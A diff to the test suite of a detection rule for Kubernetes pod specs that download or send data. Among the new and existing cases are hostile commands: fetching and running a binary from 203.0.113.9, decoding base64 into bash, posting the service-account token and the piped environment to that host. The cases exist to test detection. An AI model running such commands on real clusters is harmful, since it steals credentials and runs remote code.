@@ -25,6 +25,13 @@ describe('rule download-in-spec', () => {
       ['saved first', { request: pod(script('wget http://203.0.113.9/x -O /tmp/x; chmod +x /tmp/x; /tmp/x')) }],
       ['as a hook', { request: pod(podSpec({ lifecycle: { postStart: { exec: { command: ['sh', '-c', RUN] } } } })) }],
       ['in base64', { request: pod(script(`echo ${encoded} | base64 -d | bash`)) }],
+      [
+        'a token that is sent away',
+        {
+          request: pod(script('curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://203.0.113.9:8080')),
+        },
+      ],
+      ['what is piped away', { request: pod(script('env | curl -s -X POST --data-binary @- http://203.0.113.9/')) }],
       ['refused', { code: 7 }, { severity: 'medium', confidence: 0.55 }],
       ['a named host', { request: pod(script('curl -fsSL https://get.example.com/install.sh | bash')) }, FROM_NAME],
       [
@@ -47,6 +54,13 @@ describe('rule download-in-spec', () => {
         'a file from a named host',
         { request: pod(script('curl -fsSLo /plugins/a.jar https://repo.example.com/a.jar')) },
       ],
+      [
+        'a login at a named host',
+        { request: pod(script('curl -d "{\\"jwt\\": \\"$(cat /token)\\"}" https://vault.example.com/v1/login')) },
+      ],
+      ['a file for a named host', { request: pod(script('curl -T /backup.gz https://backup.example.com/')) }],
+      ['a file for a private address', { request: pod(script('curl -d @/metrics http://10.0.0.4:9091/metrics')) }],
+      ['words for an address', { request: pod(script('curl -s -d ready=1 http://203.0.113.9/hook')) }],
       ['a private address', { request: pod(script('curl -s http://10.0.0.4/k.sh | sh')) }],
       ['a Service', { request: pod(script('curl -s http://config.shop.svc:8080/env.sh | sh')) }],
       ['a probe', { request: pod(script('until curl -sf http://203.0.113.9/healthz; do sleep 1; done')) }],
